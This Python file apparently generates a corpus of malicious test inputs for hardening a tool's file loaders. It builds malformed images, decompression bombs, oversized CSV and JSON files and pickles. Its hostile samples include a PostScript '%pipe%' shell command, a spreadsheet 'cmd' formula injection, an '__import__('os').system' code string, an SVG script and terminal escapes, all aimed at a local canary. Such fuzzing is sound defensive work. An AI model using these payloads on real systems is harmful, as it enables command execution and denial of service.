        "wrong-checksum": png(chunk(b"gAMA", bytes(4), crc=0)),
        "header-twice": png(chunk(b"IHDR", struct.pack(">2I5B", 9999, 9999, 8, 6, 0, 0, 0))),
        "header-cut": b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"\0\0"),
        "cut": png()[:-30],
        "endless-chunks": png(*[chunk(b"abCd")] * 20000),
        "16-bit-50-megapixels": lambda: png(
            size=(5000, 10000), depth=16, level=1,
            pixels=(b"\0" + b"\xff\xff" * 2500 + b"\0\0" * 2500) * 10000),
        "rgba-50-megapixels": lambda: png(
            size=(5000, 10000), colour=6, level=1, pixels=bytes(20001 * 10000)),
        "rgba-one-column": lambda: png(
            size=(1, 50000000), colour=6, level=1, pixels=bytes(5 * 50000000)),
        "16-bit-rows": png(size=(10000, 5000), depth=16, pixels=bytes(100005000 // 50)),
    }.items():  # fmt: skip
        made.add("png", key, data)


def add_other_pictures(made):
    """Add other formats of pictures, and files that other programs would run."""
    postscript = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 28 28\n(%pipe%{}) (w) file\n"
    jpeg = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    sof = b"\xff\xc0\0\x0b\x08\xff\xdc\xff\xdc\1\1\x11\0"
    exif = b"\xff\xe1\0\x22Exif\0\0MM\0*\0\0\0\x08\xff\xff\x01\x12\0\4\xff\xff\xff\xff\0\0\0\0\0\0"

    def bmp(width, height, bits=8, packing=0, size=0, colours=0):
        head = b"BM" + struct.pack("<IHHIIii", 0, 0, 0, 54, 40, width, height)
        return head + struct.pack("<HHIIiiII", 1, bits, packing, size, 0, 0, colours, 0)

    gif = b"GIF89a\x1c\0\x1c\0\0\0\0"
    most = b"\xff" * 8
    screen = most[:4] + b"\x80\0\0" + bytes(6) + b",\0\0\0\0" + most[:4]
    vp8x = b"VP8X\x0a\0\0\0\2\0\0\0\xff\x3f\0\xff\x3f\0"
    for key, data in {
        "postscript": postscript.format(made.shell).encode(),
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>",
        "xpm": b"/* XPM */\nstatic char *x[] = {\n\"28 28 2 1\",\n",
        "gif-65535": b"GIF89a" + screen + b"\0\x0b",
        "gif-frame-outside": gif + b"," + most + b"\0\x08\1\0\0;",
        "gif-blocks": gif + b"!\xfe\xff" + b"a" * 255 + b"\xff" * 9999,
        "gif-many-comments": gif + b"!\xfe\1a\0" * 50000,
        "bmp-huge": bmp(1 << 30, -(1 << 30)),
        "bmp-negative": bmp(-28, 28, packing=1),
        "bmp-colours": bmp(28, 28, colours=1 << 31),
        "bmp-runs": bmp(7000, 7000, packing=1, size=9) + b"\xff\1" * 99,
        "bmp-header": bmp(28, 28)[:14] + most,
        "jpeg-65500": jpeg + sof + b"\xff\xda",
        "jpeg-exif": jpeg + exif + sof,
        "jpeg-many-markers": jpeg + b"\xff\xe1\0\x02" * 50000,
        "jpeg-mpo": jpeg + b"\xff\xe2\0\x20MPF\0II*\0\x08\0\0\0\xff\xff" + b"\xb0\0\0\0" * 4,
        "webp-huge": b"RIFF\x22\0\0\0WEBP" + vp8x,
        "webp-frames": b"RIFF\xff\xff\xff\x7fWEBP" + vp8x + b"ANIM\6\0\0\0" + b"ANMF" * 99,
        "tiff": b"II*\0\x08\0\0\0" + b"\xff" * 200,
    }.items():  # fmt: skip
        made.add("png", key, data)


COLUMNS = "iteration,epoch,train_loss,validation_error,patience,seconds,machine\n"


def add_histories(made):
    """Add CSV files with numbers, fields and lines that no history has."""
    row = "83,1,0.5,0.125,5000.0,1.5,1\n"
    for key, text in {
        "digits": COLUMNS + "9" * 5000 + row,
        "digits-in-many-lines": COLUMNS + ("9" * 130000 + row) * 40,
        "digits-of-a-float": COLUMNS + "1,1," + "9" * 100000 + ",0,0,0,1\n",
        "field-of-a-megabyte": COLUMNS + "9" * MIB + row,
        "open-quotes": COLUMNS + '"' + row * 10000,
        "quoted-line-break": COLUMNS + '"8\n3",1,0,0,0,0,1\n',
        "nul": COLUMNS + row + "\0" + row,
        "many-columns": "a," * MIB + "\n",
        "many-columns-below": COLUMNS + "1," * MIB + "\n",
        "carriage-returns": COLUMNS.strip() + "\r" + row.strip() + "\r\r\n",
        "formula": COLUMNS + f"=cmd|'/c touch {made.canary}'!A0,1,0,0,0,0,1\n",
        "escape": COLUMNS + "\x1b[2J,1,0,0,0,0,1\n",
        "line-break-in-a-value": COLUMNS + '1,1,"x\ny",0,0,0,1\n',
        "long-line-in-a-value": COLUMNS + "1,1," + "x" * 100000 + ",0,0,0,1\n",
        "other-digits": COLUMNS + "\u0663,1_0,\u0663.5,0,0,0,1\n",
        "hexadecimal": COLUMNS + "0x10,1,0x1p4,0,0,0,1\n",
        "overflow": COLUMNS + "1,1,1e999,0,0,0,1\n",
        "nothing-but-lines": "\n" * MIB,
        "header-of-quotes": '"' * 100001 + "\n",
        "cut-column": COLUMNS[:-9],
        "page": "<!doctype html><title>404</title>",
    }.items():
        made.add("csv", key, text.encode())
    made.add("csv", "not-utf-8", COLUMNS.encode() + b"\xff\xfe,1,0,0,0,0,1\n")
    made.add("csv", "utf-16", COLUMNS.encode("utf-16"))
    head = zipped(COLUMNS.encode())
    many = row.encode() * 250000
    made.add("csv", "bomb", lambda: head + zipped(many, 1) * 170)
    made.add("csv", "bomb-of-digits", lambda: head + repeated(b"1"))


def description(**changes):
    params = [["W", [4, 2], "float64"], ["b", [2], "float64"]]
    return json.dumps(dict({"format": 1, "params": params, "settings": {}}, **changes))


def saved(W, b, described):
    """Make an archive of saved parameters."""
    members = []
    for key, content in ("W", W), ("b", b), ("__dlt__", described):
        file = io.BytesIO()
        np.lib.format.write_array(file, np.asarray(content), allow_pickle=False)
        members.append((key + ".npy", file.getvalue()))
    return archive(*members)


def add_descriptions(made):
    """Add saved parameters whose description, JSON text, is a bomb or contradicts the arrays."""
    plain, holed = description(), description(settings="S")
    texts = {
        "nested-lists": "[" * 100000,
        "nested-objects": '{"a":' * 100000,
        "digits": plain.replace("1,", "9" * 100000 + ",", 1),
        "digits-of-a-megabyte": '{"format": %s}' % ("9" * MIB),
        "digits-in-the-settings": holed.replace('"S"', '{"a": %s}' % ("9" * 5000)),
        "exponent": plain.replace("1,", "1e999999999,", 1),
        "same-key-twice": plain[:-1] + ', "format": 1}',
        "same-setting-twice": holed.replace('"S"', '{"a": 1, "a": 2}'),
        "format-true": description(format=True),
        "format-1.0": description(format=1.0),
        "format-none": description(format=None),
        "params-an-object": description(params={"Wab": 1}),
        "params-text": description(params=["Wab"]),
        "params-numbers": description(params=[[1, [4, 2], "float64"], [None, [2], 8]]),
        "shape-text": description(params=[["W", "42", "float64"], ["b", [2], "float64"]]),
        "shape-booleans": description(params=[["W", [4, 2], "float64"], ["b", [True], "float64"]]),
        "shape-floats": description(params=[["W", [4.0, 2], "float64"], ["b", [2], "float64"]]),
        "shape-huge": description(params=[["W", [1 << 70, 2], "float64"], ["b", [2], "float64"]]),
        "name-with-a-line-break": description(params=[["W\n\x1b[2J", [4, 2], "float64"]] * 2),
        "name-of-a-megabyte": description(params=[["W" * MIB, [4, 2], "float64"]]),
        "one-array-too-many": description(params=[["W", [4, 2], "float64"]]),
        "many-params": description(params=[[f"w{int(i)}", [0], "f"] for i in range(50000)]),
        "settings-a-list": description(settings=[1]),
        "not-json": f"__import__('os').system('{made.shell}')",
        "empty": "",
        "mark-first": "\ufeff" + plain,
        "lone-surrogate": description(settings={"dataset": "\ud800"}),
        "not-a-number": holed.replace('"S"', '{"a": NaN, "b": -Infinity}'),
        "data-set-elsewhere": description(settings={"dataset": "/dev/zero"}),
        "data-set-odd": description(settings={"dataset": "a\0\n\x1b[2J" + "b" * 9999}),
    }
    for depth in range(900, 1000, 7):  # where json gives up later than repr and str do
        nested = description(params=[["W", "S", "f"]]).replace('"S"', "[" * depth + "]" * depth)
        texts[f"nested-{depth}"] = nested
    W, b = np.ones((4, 2)), np.zeros(2)
    for key, text in texts.items():
        made.add("params.npz", key, saved(W, b, text))
        made.add("params.pkl", key, b"".join(pickle.dumps(v, 2) for v in (W, b, text)))
    odd_ones = {"a-number": 1, "two-texts": ["{}", "{}"], "bytes": np.array([123, 125], "u1")}
    for key, odd in odd_ones.items():
        made.add("params.npz", "description-" + key, saved(W, b, odd))


def add_models(made):
    """Add parameters that are well described, of a model that cannot be used."""
    for key, W, b in (
        ("nan", np.full((4, 2), np.nan), np.zeros(2)),
        ("too-large-for-float32", np.full((4, 2), 1e300), np.zeros(2)),
        ("no-inputs", np.zeros((0, 2)), np.zeros(2)),
        ("one-label", np.zeros((4, 1)), np.zeros(1)),
        ("no-square", np.zeros((3, 2)), np.zeros(2)),
    ):
        kinds = [[n, list(a.shape), a.dtype.name] for n, a in (("W", W), ("b", b))]
        made.add("model", key, saved(W, b, description(params=kinds)))


#: What a link in a stranger's folder may lead to, in a folder as `victims` makes it.
TARGETS = {"file": "file", "folder": "folder", "nothing": "new", "device": "/dev/null"}


def victims(folder):
    """Make a folder for links to lead to, and return a function that says what is in it."""
    (folder / "folder").mkdir(parents=True)
    (folder / "file").write_bytes(b"precious")
    (folder / "folder" / "inside.npz").write_bytes(b"precious too")

    def contents():
        found = {path: path.is_file() and path.read_bytes() for path in folder.rglob("*")}
        return found, os.stat(os.devnull).st_mode

    return contents


def write(folder, canary):
    """Write one file for each attack, and return the attacks."""
    os.makedirs(folder, exist_ok=True)
    attacks = corpus(canary)
    for attack in attacks:
        with open(os.path.join(folder, attack.name), "wb") as file:
            file.write(attack.data)
    return attacks


if __name__ == "__main__":
    write(sys.argv[1], os.path.join(os.path.abspath(sys.argv[1]), "canary"))
